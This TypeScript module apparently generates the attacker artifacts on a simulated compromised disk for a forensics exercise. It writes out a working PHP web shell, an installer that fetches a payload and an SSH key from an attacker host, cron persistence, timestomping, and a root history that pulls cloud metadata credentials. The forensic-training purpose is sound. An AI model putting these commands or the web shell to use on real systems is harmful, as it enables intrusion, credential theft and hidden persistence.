/** What the attacker left on the root volume. */
import { createRandom } from '../../../estate/random.ts';
import { type DiskFacts, HOST_MINUTES } from './facts.ts';
import type { TreeBuilder } from './tree-builder.ts';

/** A harmless stand-in for the dropped binary: an ELF header, the strings an analyst looks for, noise. It cannot run. */
function droppedBinary(facts: DiskFacts): Buffer {
  const header = Buffer.from('7f454c4602010100000000000000000003003e0001000000', 'hex');
  const strings = [
    'GCC: (Debian 12.2.0-14) 12.2.0',
    `connect ${facts.cast.origins.attackerHost.ip}:443`,
    'stratum+tcp://pool.example:3333',
    '/proc/self/exe',
    '[kworker/u8:3-events]',
  ].join('\0');
  return Buffer.concat([
    header,
    Buffer.alloc(40),
    Buffer.from(strings),
    createRandom(facts.cast.seed, 'kworkerd').bytes(184_320),
  ]);
}

function history(entries: [number, string][]): string {
  return `${entries.map(([ms, command]) => `#${Math.floor(ms / 1000)}\n${command}`).join('\n')}\n`;
}

/** Root's history: what was typed over SSH after the planted key let them in. */
function rootHistory(facts: DiskFacts): string {
  const { at, roleName, cast } = facts;
  const login = HOST_MINUTES.sshLogin;
  const metadata = 'http://169.254.169.254/latest/meta-data/iam/security-credentials';
  return history([
    [at(login + 0.4), 'id; w'],
    [at(login + 0.9), `curl -s ${metadata}/${roleName}`],
    [at(login + 2), 'ls -la /srv/shop/public/assets'],
    [at(HOST_MINUTES.webShell - 0.2), 'vi /srv/shop/public/assets/.thumb.php'],
    [at(HOST_MINUTES.webShell + 0.1), 'touch -r /srv/shop/public/assets/app.css /srv/shop/public/assets/.thumb.php'],
    [at(HOST_MINUTES.webShell + 2), 'nohup /usr/local/bin/kworkerd >/dev/null 2>&1 &'],
    [at(login + 15), `curl -s -o /dev/null -w '%{http_code}' https://${cast.origins.attackerHost.ip}/beacon`],
    [at(login + 22), 'unset HISTFILE'],
  ]);
}

export function addAttackerFiles(tree: TreeBuilder, facts: DiskFacts): void {
  const { at, cast } = facts;
  const host = cast.origins.attackerHost.ip;
  tree.file('/usr/local/bin/kworkerd', droppedBinary(facts), at(HOST_MINUTES.binary), {
    mode: 0o755,
    accessedMs: at(HOST_MINUTES.reverseShell),
  });
  tree.file(
    '/etc/cron.d/systemd-refresh',
    `# refresh unit cache\n*/10 * * * * root /usr/local/bin/kworkerd -q >/dev/null 2>&1\n`,
    at(HOST_MINUTES.cron),
  );
  tree.file(
    '/root/.ssh/authorized_keys',
    'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHR4bWVsc2VvZnRoZWF0dGFja2Vyc2tleTAwMDAw sync@backup\n',
    at(HOST_MINUTES.authorizedKeys),
    { mode: 0o600, accessedMs: at(HOST_MINUTES.sshLogin) },
  );
  tree.file('/root/.bash_history', rootHistory(facts), at(HOST_MINUTES.sshLogin + 23), { mode: 0o600 });
  // Its modification time was set to that of its neighbour; birth and inode change tell when it came.
  tree.file(
    '/srv/shop/public/assets/.thumb.php',
    '<?php if(isset($_GET["c"])){header("Content-Type: image/png");system($_GET["c"]);} ?>\n',
    at(HOST_MINUTES.webShell),
    {
      modifiedMs: facts.launchedMs + 240_000,
      accessedMs: at(HOST_MINUTES.webShellUsed),
      changedMs: at(HOST_MINUTES.webShell + 0.1),
      uid: 991,
      gid: 991,
    },
  );
  const installer = [
    '#!/bin/sh',
    `curl -fsSL http://${host}/k -o /usr/local/bin/kworkerd && chmod 755 /usr/local/bin/kworkerd`,
    'echo "*/10 * * * * root /usr/local/bin/kworkerd -q" > /etc/cron.d/systemd-refresh',
    `curl -fsSL http://${host}/key >> /root/.ssh/authorized_keys`,
    'rm -f "$0"',
    '',
  ];
  tree.directory('/tmp/.x', at(HOST_MINUTES.download), { mode: 0o700 });
  tree.file('/tmp/.x/install.sh', installer.join('\n'), at(HOST_MINUTES.download), {
    mode: 0o700,
    deletedAtMs: at(HOST_MINUTES.installerDeleted),
    changedMs: at(HOST_MINUTES.installerDeleted),
  });
}
